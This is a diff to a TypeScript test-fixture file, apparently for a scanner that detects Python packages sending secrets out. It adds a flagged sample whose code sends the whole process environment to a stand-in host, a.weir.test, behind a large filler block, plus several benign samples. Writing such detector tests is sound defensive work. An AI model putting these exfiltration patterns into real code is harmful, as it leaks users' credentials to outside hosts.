@@ -17,8 +17,27 @@ const EDGES =
 const MIRROR =
   'import logging, logging.handlers\nclass Mirror(logging.handlers.HTTPHandler):\n    def __init__(self, host="a.weir.test"):\n        super().__init__(host, "/l")\nlog = logging.getLogger("own")\nlog.addHandler(Mirror())\n';
 
+/** What gives the environment among `count` other functions, which a module then asks, and sends one of their answers. */
+const core = (count: number): string =>
+  `import os\n${Array.from({ length: count }, (_, at) => `def part_${at}(settings={}):\n    return settings.get('${at}')\n`).join('')}def script_env():\n    return dict(os.environ)\n`;
+const server = (count: number): string =>
+  `import subprocess, requests\nfrom . import core\nfrom .net import get\ndef start():\n    subprocess.run(['git'], env=core.script_env())\n${Array.from({ length: count }, (_, at) => `get(core.part_${at}())\n`).join('')}`;
+/** So much that a module is not looked at again with others. */
+const LARGE = `# ${'of its own '.repeat(10)}\n`.repeat(1_200);
+const NET = 'import requests\ndef get(uri):\n    return requests.get(uri).json()\n';
+
 /** What Python sends by another module, to hosts that stand there. */
 export const FAR: readonly Sample[] = [
+  {
+    name: 'Python: one of few functions of another module gives the environment, which is handed on',
+    files: {
+      ...wheel('from . import server\n'),
+      'own/core.py': core(2),
+      'own/server.py': `${server(2)}get('https://a.weir.test/' + str(core.script_env()))\n${LARGE}`,
+      'own/net.py': NET,
+    },
+    expected: at('environment', 'server.py', 8),
+  },
   {
     name: 'Python: a file of credentials, by a connection that another module makes',
     files: {
@@ -72,6 +91,15 @@ export const FAR: readonly Sample[] = [
 
 /** The same of honest code: the answer is read, or the host is a user's. */
 export const FAR_HONEST: readonly Sample[] = [
+  quiet(
+    'Python: one of many functions of another module gives the environment, and others give what is asked for',
+    {
+      ...wheel('from . import server\n'),
+      'own/core.py': core(40),
+      'own/server.py': server(40) + LARGE,
+      'own/net.py': NET,
+    },
+  ),
   quiet('Python: a file of settings, by a connection that another module makes', {
     ...wheel(
       `from .peer import note\n${CREDENTIALS.replace('.aws', '.config')}def load():\n    note(KEYS.read_text())\n`,
@@ -83,6 +111,19 @@ export const FAR_HONEST: readonly Sample[] = [
       'import pathlib, urllib.request\ndef check(given, url):\n    for place in [pathlib.Path(p) for p in given] + [pathlib.Path.home() / ".config/own"]:\n        print(place.read_bytes())\n    return urllib.request.urlopen(url).read()\n',
     ),
   }),
+  quiet('Python: a secret of the process that started this one, back to it', {
+    ...wheel(
+      "import os\nfrom .link import connect\ndef ask():\n    return connect(os.environ.get('OWN_PORT'), os.environ.get('OWN_SECRET'))\n",
+    ),
+    'own/link.py':
+      "import socket\ndef connect(port, secret):\n    for family, kind, proto, _, address in socket.getaddrinfo('127.0.0.1', port):\n        link = socket.socket(family, kind, proto)\n        link.connect(address)\n        link.sendall(secret.encode())\n        return link\n",
+  }),
+  quiet(
+    'Python: a password, to where nobody has said yet',
+    wheel(
+      "import requests\nclass Store:\n    account = None\n    def keep(self, password):\n        requests.post(f'https://{self.account}.own.example/', json={'password': password})\n",
+    ),
+  ),
   quiet('Python: a key of a cloud, to that cloud', {
     ...wheel(
       'import os\nfrom .edges import first\nclass Session:\n    def __init__(self):\n        self.edge = first(os.environ["AWS_SECRET_ACCESS_KEY"])\n',
